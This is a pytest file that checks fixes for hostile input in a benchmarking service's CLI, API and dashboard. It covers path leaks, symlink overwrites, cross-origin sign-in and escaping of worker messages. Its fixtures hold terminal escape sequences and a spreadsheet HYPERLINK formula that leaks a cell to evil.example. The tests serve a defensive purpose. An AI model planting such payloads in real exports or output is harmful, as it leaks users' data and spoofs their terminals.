"""Issue 18's "smaller holes", each as found by the hostile-input review, each closed.

Host paths in `refused_by`; `token create -o` through a symlink or into an existing file;
terminal escapes printed raw by `study show`; spreadsheet formulas in the CSV export; a
cross-origin sign-in; `?after=abc` answered 500 by the dashboard; an anonymous body parsed (422)
before the token was checked (401).  The worker's side (a NaN heartbeat interval from a
compromised API, a busy loop; a newline in a lease's study name, a forged worker log line) is in
tests/workers/test_hostile_input.py.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from spectune_protocol.printable import printable
from tests.support.api_client import Api
from tests.support.specs import INVENTORY, small_spec
from workers.loadgen.prompts import load_prompts

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[1Ahidden\rX"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def ok(levels: list[int]) -> dict[str, Any]:
    return {"outcome": "ok", "metrics": {"levels": [{"concurrency": c, "output_tok_s": 100.0} for c in levels]}}


def failed(kind: str, message: str) -> dict[str, Any]:
    return {"outcome": "failed", "failure": {"kind": kind, "message": message}}


def cli(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    full = {**os.environ, "TZ": "UTC", **(env or {})}
    return subprocess.run(
        [sys.executable, "-m", "api.cli", *args], capture_output=True, text=True, timeout=120, env=full
    )  # fmt: skip


# ---------------------------------------------------------------------------- what users see


def test_refusals_name_the_file_not_the_hosts_paths(api: Api, tmp_path: Path) -> None:
    assert api.post("/v1/studies", "user", small_spec("paths")).status_code == 201
    lease = api.post("/v1/workers/w1/lease", "worker", INVENTORY).json()
    message = "prompt file 'p.jsonl' not found in /srv/secret/prompts (config ~/etc/spectune/worker.toml)"
    assert api.post(f"/v1/leases/{lease['lease_id']}/complete", "worker", failed("refused", message)).status_code == 200
    (refusal,) = api.get("/v1/studies/paths", "user").json()["refused_by"]
    assert "p.jsonl" in refusal["message"] and "prompts" in refusal["message"]
    assert "/srv" not in refusal["message"] and "/etc" not in refusal["message"], refusal
    # The worker says it that way in the first place.
    with pytest.raises(FileNotFoundError) as missing:
        load_prompts("absent.jsonl", tmp_path)
    assert "absent.jsonl" in str(missing.value) and str(tmp_path) not in str(missing.value)


def study_with_failures(server: tuple[str, dict[str, str]], study: str, messages: list[str]) -> dict[str, str]:
    """A study whose trials a worker reported failed with `messages`; the CLI's env to read it."""
    import httpx

    base, tokens = server
    user, worker = ({"Authorization": f"Bearer {tokens[r]}"} for r in ("user", "worker"))
    with httpx.Client(base_url=base, timeout=60) as c:
        assert c.post("/v1/studies", json=small_spec(study), headers=user).status_code == 201
        base_lease = c.post("/v1/workers/w1/lease", json=INVENTORY, headers=worker).json()
        assert c.post(f"/v1/leases/{base_lease['lease_id']}/complete", json=ok([1]), headers=worker).status_code == 200
        for message in messages:
            trial = c.post("/v1/workers/w1/lease", json=INVENTORY, headers=worker).json()
            assert trial["kind"] == "trial"
            r = c.post(f"/v1/leases/{trial['lease_id']}/complete", json=failed("oom", message), headers=worker)
            assert r.status_code == 200, r.text
    return {"SPECTUNE_API_URL": base, "SPECTUNE_TOKEN": tokens["user"]}


def test_study_show_prints_escapes_and_export_quotes_formulas(server: tuple[str, dict[str, str]]) -> None:
    env = study_with_failures(server, "hostile", [ESCAPES, FORMULA])
    shown = cli("study", "show", "hostile", env=env)
    assert shown.returncode == 0, shown.stderr
    assert "\x1b" not in shown.stdout and "\x07" not in shown.stdout and "\r" not in shown.stdout
    assert "\\x1b]0;owned\\x07" in shown.stdout
    exported = cli("study", "export", "hostile", env=env)
    assert exported.returncode == 0, exported.stderr
    messages = [row["failure_message"] for row in csv.DictReader(io.StringIO(exported.stdout))]
    assert "'" + FORMULA in messages and FORMULA not in messages, messages
    assert printable("a\x1b[31mb\u202ec\nd", keep_newlines=True) == "a\\x1b[31mb\\u202ec\nd"


def test_token_create_writes_only_a_new_file(sqlite_template: Path, tmp_path: Path) -> None:
    db = tmp_path / "spectune.db"
    shutil.copy(sqlite_template, db)
    url = f"sqlite:///{db}"

    def tokens_listed() -> int:
        r = cli("token", "list", "--database-url", url)
        assert r.returncode == 0, r.stderr
        return len([line for line in r.stdout.splitlines() if "test-" in line or "w-" in line])

    existing = tmp_path / "existing"
    existing.write_text("keep me\n")
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    link = tmp_path / "link"
    link.symlink_to(victim)
    dangling = tmp_path / "dangling"
    dangling.symlink_to(tmp_path / "nowhere")
    for path, kind in ((existing, "a file"), (link, "a symlink"), (dangling, "a symlink")):
        r = cli("token", "create", "--role", "worker", "--name", "w-x", "--database-url", url, "-o", str(path))
        assert r.returncode == 2 and f"is {kind} that already exists" in r.stderr, (path, r.stderr)
        assert "Traceback" not in r.stderr
    assert existing.read_text() == "keep me\n" and victim.read_text() == "precious\n"
    assert not (tmp_path / "nowhere").exists()
    assert tokens_listed() == 0, "a refused path must not leave a token behind"
    fresh = tmp_path / "fresh"
    r = cli("token", "create", "--role", "worker", "--name", "w-ok", "--database-url", url, "-o", str(fresh))
    assert r.returncode == 0, r.stderr
    assert fresh.stat().st_mode & 0o777 == 0o600 and fresh.read_text().startswith("st_")


# ---------------------------------------------------------------------------- the API's edges


def test_sign_in_from_another_site_is_refused(api: Api) -> None:
    form = {"token": api.tokens["user"], "next": "/dashboard"}
    for header in ({"Origin": "https://evil.example"}, {"Origin": "null"}, {"Referer": "https://evil.example/x"}):
        r = api.client.post("/login", data=form, headers=header, follow_redirects=False)
        assert r.status_code == 403 and "another site" in r.text, (header, r.status_code)
        assert "set-cookie" not in r.headers
    same = {"Origin": "http://testserver", "Referer": "http://testserver/login"}
    r = api.client.post("/login", data=form, headers=same, follow_redirects=False)
    assert r.status_code == 303 and "spectune_session=" in r.headers["set-cookie"]
    # A client that is not a browser (no Origin, no Referer) still signs in.
    r = api.client.post("/login", data=form, follow_redirects=False)
    assert r.status_code == 303


def test_dashboard_queries_it_cannot_parse_are_4xx(api: Api) -> None:
    assert api.post("/v1/studies", "user", small_spec("dash")).status_code == 201
    (summary,) = api.get("/api/studies", "user").json()["study_summaries"]
    sid = summary["study_id"]
    for query in ("abc", "1e3", "%E2%91%A0", "", "99999999999999999999999"):
        r = api.get(f"/api/studies/{sid}?after={query}", "user")
        assert r.status_code == 422, (query, r.status_code, r.text)
        assert "after" in r.json()["error"]["message"]
    assert api.get(f"/api/studies/{sid}?after=-1", "user").status_code == 422
    assert api.get(f"/api/studies/{sid}?after=0", "user").status_code == 200
    for path in ("/api/studies/99999999999999999999999", "/csv/99999999999999999999999"):
        assert api.get(path, "user").status_code == 404, path
    assert api.get(f"/csv/{sid}?trial_ids=x", "user").status_code < 500


@pytest.mark.parametrize("path", ["/v1/studies", "/v1/workers/w1/lease", "/v1/leases/" + "0" * 36 + "/complete"])
def test_a_body_is_looked_at_only_after_the_token(api: Api, path: str) -> None:
    bad_json = {"Content-Type": "application/json"}
    for headers in ({}, {"Authorization": "Bearer st_unknown"}, {"Authorization": "Basic x"}):
        r = api.client.post(path, content=b"{not json", headers={**bad_json, **headers})
        assert r.status_code == 401, (headers, r.status_code, r.text)
        assert r.headers["www-authenticate"] == "Bearer"
    role = "user" if path == "/v1/studies" else "worker"
    r = api.client.post(path, content=b"{not json", headers={**bad_json, **api.h(role)})
    assert r.status_code == 422 and "not valid JSON" in r.json()["error"]["message"]


# ---------------------------------------------------------------------------- a worker's words, printed


# Issue 35, item 8: `spectune study export NAME` (CSV to stdout) printed a worker's raw control
# characters, though `show` escaped them.  One escape (spectune_protocol.printable) now serves
# every output: `show`, the CSV (stdout and file), the JSON export and the HTML report.
HOSTILE = ["\x1b]0;owned\x07title \x1b[2Jcleared", "over\rwritten abc\u202edcba"]
RAW = ("\x1b", "\x07", "\r", "\u202e")


def test_every_output_escapes_a_workers_control_characters(server: tuple[str, dict[str, str]], tmp_path: Path) -> None:
    from api.report.render import _e

    env = study_with_failures(server, "hostile-csv", HOSTILE)
    out_file = tmp_path / "export.csv"
    outputs = {
        "show": cli("study", "show", "hostile-csv", env=env),
        "csv": cli("study", "export", "hostile-csv", env=env),
        "csv file": cli("study", "export", "hostile-csv", "-o", str(out_file), env=env),
        "json": cli("study", "export", "hostile-csv", "--format", "json", env=env),
    }
    # The file as bytes: reading text would turn a raw CR into a newline unseen (as `cli` does).
    texts = {name: p.stdout for name, p in outputs.items()} | {"csv file": out_file.read_bytes().decode()}
    for name, p in outputs.items():
        assert p.returncode == 0, (name, p.stderr)
    for name, text in texts.items():
        assert not [ch for ch in RAW if ch in text], (name, text)
    messages = {row["failure_message"] for row in csv.DictReader(io.StringIO(texts["csv"]))}
    assert {printable(m) for m in HOSTILE} <= messages, messages  # escaped, not dropped
    assert texts["csv file"] == texts["csv"]
    assert _e(HOSTILE[0]) == "\\x1b]0;owned\\x07title \\x1b[2Jcleared" and _e("a\u202eb") == "a\\u202eb"  # HTML
